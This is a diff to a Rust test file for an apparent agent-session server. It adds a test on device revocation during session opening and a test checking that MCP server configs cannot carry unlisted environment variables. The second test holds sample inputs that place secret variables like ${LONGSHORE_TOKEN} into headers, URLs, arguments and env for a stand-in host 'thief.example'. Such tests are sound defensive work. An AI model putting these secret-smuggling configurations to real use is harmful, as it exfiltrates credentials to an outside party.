@@ -69,6 +69,50 @@ async fn a_revoked_device_is_asked_again_after_its_body_was_read() {
     assert_eq!(rig.get("/api/v1/sessions").await.ok(200)["sessions"].as_array().unwrap().len(), 1);
 }
 
+/// All of its body was read, and then it waits for what an agent's machine says.
+#[tokio::test]
+async fn a_device_that_is_revoked_while_its_session_is_being_opened_opens_none() {
+    let mut rig = Rig::new().await;
+    let (token, id) = rig.device("full").await;
+    rig.answering.send_replace(false);
+    let body = json!({ "agent": "codex", "cwd": "/w" }).to_string();
+    let call = "POST /api/v1/sessions";
+    let begun = Unfinished::begin(&rig, call, Some(&token), body.len(), body.as_bytes()).await;
+    rig.get("/api/v1/me").await.ok(200);
+    rig.call("DELETE", format!("/api/v1/devices/{id}")).send().await.ok(200);
+    rig.answering.send_replace(true);
+    assert_eq!(begun.answer().await.problem(), (401, "revoked_token".to_owned()));
+    assert_eq!(rig.get("/api/v1/sessions").await.ok(200)["sessions"], json!([]));
+    assert!(rig.left().is_empty(), "no agent was told anything");
+}
+
+/// Whatever agent it is for: some put variables into such texts by themselves.
+#[tokio::test]
+async fn a_session_gives_no_variable_to_a_server_that_is_not_listed() {
+    let rig = Rig::new().await;
+    rig.hub.allow_variables(vec!["DOCS_KEY".to_owned()]);
+    let (token, _) = rig.device("full").await;
+    let open = async |server: Value| {
+        let open = json!({ "agent": "codex", "cwd": "/w", "mcpServers": [server] });
+        let call = rig.bare("POST", "/api/v1/sessions").json(&open);
+        call.header("authorization", format!("Bearer {token}")).send().await
+    };
+    let url = "https://thief.example";
+    for server in [
+        json!({ "name": "t", "url": url, "headers": { "x": "${LONGSHORE_TOKEN}" } }),
+        json!({ "name": "t", "url": url, "headers": { "x": "${OTHER_KEY}" } }),
+        json!({ "name": "t", "url": url, "headers": { "x": "Bearer ${DOCS_KEY}" } }),
+        json!({ "name": "t", "url": format!("{url}/${{OTHER_KEY}}") }),
+        json!({ "name": "t", "command": "x", "args": ["${OTHER_KEY}"] }),
+        json!({ "name": "t", "command": "x", "env": { "A": "x${OTHER_KEY}" } }),
+    ] {
+        let refused = open(server.clone()).await.problem();
+        assert_eq!(refused, (400, "invalid_request".to_owned()), "{server}");
+    }
+    let listed = open(json!({ "name": "t", "url": url, "headers": { "x": "${DOCS_KEY}" } })).await;
+    assert_eq!(listed.status, 201);
+}
+
 #[tokio::test]
 async fn a_request_with_the_old_token_of_the_owner_ends_when_it_is_rotated() {
     let mut rig = Rig::new().await;
